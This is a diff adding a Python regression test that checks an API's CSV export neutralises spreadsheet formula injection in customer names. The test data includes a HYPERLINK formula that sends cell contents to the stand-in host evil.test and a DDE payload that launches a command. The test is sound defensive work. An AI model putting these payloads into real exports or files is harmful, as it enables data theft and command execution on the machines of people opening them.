@@ -554,3 +554,33 @@ async def test_customer_detail_has_its_order_history_within_date_from_and_date_t
     assert bounded["statistics"]["orders_count"] == len(mine)  # statistics cover the period, not the page
     body = await get(f"/customers/{customer}", _status=422, date_from="2026-02-01", date_to="2026-01-01")
     assert body["error"]["field"] == "date_to"
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(api):
+    """A customer named =HYPERLINK(...) came out raw in format=csv: opened in a spreadsheet,
+    the cell runs.  Text starting with = + - @ tab or CR gets a leading quote; numbers stay."""
+    _, get, db = api
+    hostile = {
+        11: '=HYPERLINK("http://evil.test/?d="&A1,"Click")',
+        12: "+1+cmd|' /C calc'!A0",
+        13: "-2+3",
+        14: "@SUM(A1:A9)",
+        15: "\t=1+1",
+        16: "\r=1+1",
+    }
+    for user, name in hostile.items():
+        db.execute("UPDATE users SET name = %s WHERE id = %s", name, user)
+    db.execute("UPDATE users SET phone = '-5.00' WHERE id = 17")  # a number: left alone
+    db.execute("UPDATE orders SET discount_total = -5.00 WHERE id = 1")
+    table = list(csv.reader(io.StringIO((await get("/customers", format="csv")).decode())))
+    by_id = {int(r[0]): dict(zip(table[0], r, strict=True)) for r in table[1:]}
+    for user, name in hostile.items():
+        assert by_id[user]["name"] == "'" + name
+    assert by_id[17]["phone"] == "-5.00"
+    assert by_id[18]["name"] == db.execute("SELECT name FROM users WHERE id = 18")[0][0]
+    orders = list(csv.reader(io.StringIO((await get("/orders", format="csv")).decode())))
+    (first,) = [dict(zip(orders[0], r, strict=True)) for r in orders[1:] if r[0] == "1"]
+    assert first["discount_total"] == "-5.00"
+    assert first["created_at"][0].isdigit()
+    rows = [json.loads(line) for line in (await get("/customers", format="ndjson")).decode().splitlines()]
+    assert {r["id"]: r["name"] for r in rows}[11] == hostile[11]  # JSON is not a spreadsheet
